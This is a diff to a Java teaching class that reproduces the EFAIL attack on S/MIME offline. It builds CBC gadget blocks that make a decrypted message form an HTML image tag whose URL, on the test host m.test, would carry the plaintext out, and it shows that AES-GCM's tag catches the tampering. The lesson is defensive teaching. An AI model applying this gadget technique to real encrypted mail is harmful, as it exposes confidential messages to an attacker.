@@ -19,18 +19,33 @@ import java.util.Properties;
 /**
  * The EFAIL lesson, offline (Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email
  * Encryption using Exfiltration Channels", USENIX Security 2018). CBC decryption XORs each
- * decrypted block with the previous ciphertext block, the first with the IV; so whoever knows a
- * plaintext block can turn it into any block they like by XORing the block before it, without
- * the key, and nothing in EnvelopedData notices. The lesson makes that change to the IV of an
- * AES-CBC message and to the first ciphertext block of an AES-GCM message (counter mode is just
- * as malleable), and shows that only GCM's tag catches it. Nothing is rendered, nothing is fetched.
+ * decrypted block with the ciphertext block before it (the first with the IV), so whoever knows
+ * one plaintext block P and its ciphertext block C can make a "gadget": the two blocks (X, C) with
+ * X = IV xor P xor T decrypt to one block of garbage (X itself, decrypted) and then T, any block
+ * they choose, without the key. Gadgets can be placed anywhere in the ciphertext and mixed with
+ * the original blocks, so the attacker builds, around the original plaintext, an HTML image
+ * whose URL the plaintext becomes part of:
+ * <pre>
+ * IV' = IV xor P1 xor T1, then C1        -&gt; T1 = &lt;img alt="...     (the first block needs no garbage)
+ * X2, C1                                  -&gt; garbage, T2 = " src="//m.test/
+ * IV, C1, C2 ... Cn                       -&gt; garbage, P1 ... Pn  (the original plaintext, in the URL)
+ * X3, C1                                  -&gt; garbage, T3 = "&gt; and valid padding
+ * </pre>
+ * The first garbage block falls inside the alt text, the second and third inside the URL, where
+ * a browser keeps them. Nothing in EnvelopedData notices. The same change to an AES-GCM message
+ * fails its tag. Nothing is rendered, nothing is fetched.
  */
 public final class EfailLesson {
 
     /** What every S/MIME body starts with, so an attacker knows it: the first 16 bytes of the encrypted entity. */
     static final String KNOWN_BLOCK = "Content-Type: te";
-    /** The start of the EFAIL exfiltration gadget: an HTML image whose URL would swallow the following plaintext. */
-    static final String CHOSEN_BLOCK = "<img src=\"http:/";
+    /** The chosen blocks: the image tag opens with an alt text that swallows the first garbage block ... */
+    static final String OPENING = "<img alt=\"mail  ";
+    /** ... then the link to the attacker's server (m.test: a name reserved for tests, RFC 2606) ... */
+    static final String LINK = "\" src=\"//m.test/";
+    /** ... and after the plaintext the end of the link and the tag, with the 14 bytes of padding CBC strips. */
+    static final String CLOSING = "\">" + "\u000e".repeat(14);
+    static final int BLOCK = 16;
 
     private static final String LETTER = "From: alice@contoso.example\r\n"
             + "To: bob@contoso.example\r\n"
@@ -52,23 +67,34 @@ public final class EfailLesson {
     /** Runs the lesson with messages encrypted to this recipient, who then decrypts what the attacker sent on. */
     public static EfailReport run(Credential recipient) throws SmimeException {
         Session session = Session.getInstance(new Properties());
-        byte[] mask = xor(bytes(KNOWN_BLOCK), bytes(CHOSEN_BLOCK));
 
         InterceptedMessage cbc = InterceptedMessage.of(encrypt(session, recipient, ContentCipher.AES_256_CBC));
-        MimeMessage cbcAttacked = cbc.withIv(xor(cbc.iv(), mask)).message(session);
-        String firstBlock;
+        byte[] iv = cbc.iv();
+        byte[] original = cbc.ciphertext();
+        byte[] first = Arrays.copyOf(original, BLOCK);
+        ByteArrayOutputStream rebuilt = new ByteArrayOutputStream();
+        rebuilt.writeBytes(first);                                   // with the new IV: OPENING
+        rebuilt.writeBytes(gadget(iv, LINK));                        // garbage, LINK
+        rebuilt.writeBytes(first);
+        rebuilt.writeBytes(iv);                                      // garbage, then the original plaintext
+        rebuilt.writeBytes(original);
+        rebuilt.writeBytes(gadget(iv, CLOSING));                     // garbage, CLOSING
+        rebuilt.writeBytes(first);
+        MimeMessage cbcAttacked = cbc.withIv(gadget(iv, OPENING)).withCiphertext(rebuilt.toByteArray()).message(session);
+        String decrypted;
         boolean cbcWithoutError;
         try {
-            firstBlock = new String(Arrays.copyOf(decryptedEntity(cbcAttacked, recipient), 16), StandardCharsets.ISO_8859_1);
+            decrypted = new String(decryptedEntity(cbcAttacked, recipient), StandardCharsets.ISO_8859_1);
             cbcWithoutError = true;
         } catch (SmimeException e) {
-            firstBlock = "";
+            decrypted = "";
             cbcWithoutError = false;
         }
 
+        byte[] mask = xor(bytes(KNOWN_BLOCK), bytes(OPENING));
         InterceptedMessage gcm = InterceptedMessage.of(encrypt(session, recipient, ContentCipher.AES_256_GCM));
         byte[] ciphertext = gcm.ciphertext();
-        System.arraycopy(xor(Arrays.copyOf(ciphertext, 16), mask), 0, ciphertext, 0, 16);
+        System.arraycopy(xor(Arrays.copyOf(ciphertext, BLOCK), mask), 0, ciphertext, 0, BLOCK);
         String gcmOutcome;
         try {
             decryptedEntity(gcm.withCiphertext(ciphertext).message(session), recipient);
@@ -76,7 +102,14 @@ public final class EfailLesson {
         } catch (SmimeException e) {
             gcmOutcome = e.getMessage();
         }
-        return new EfailReport(KNOWN_BLOCK, CHOSEN_BLOCK, firstBlock, cbcWithoutError, gcmOutcome);
+        String letterEntity = LETTER.substring(LETTER.indexOf("Content-Type:"));
+        return new EfailReport(KNOWN_BLOCK, List.of(OPENING, LINK, CLOSING.substring(0, 2)), decrypted, letterEntity,
+                cbcWithoutError, gcmOutcome);
+    }
+
+    /** The block that, placed before the first ciphertext block, makes that block decrypt to {@code chosen}. */
+    private static byte[] gadget(byte[] iv, String chosen) {
+        return xor(xor(iv, bytes(KNOWN_BLOCK)), bytes(chosen));
     }
 
     private static MimeMessage encrypt(Session session, Credential recipient, ContentCipher cipher) throws SmimeException {
@@ -104,6 +137,6 @@ public final class EfailLesson {
     }
 
     private static byte[] bytes(String block) {
-        return block.getBytes(StandardCharsets.US_ASCII);
+        return block.getBytes(StandardCharsets.ISO_8859_1);
     }
 }
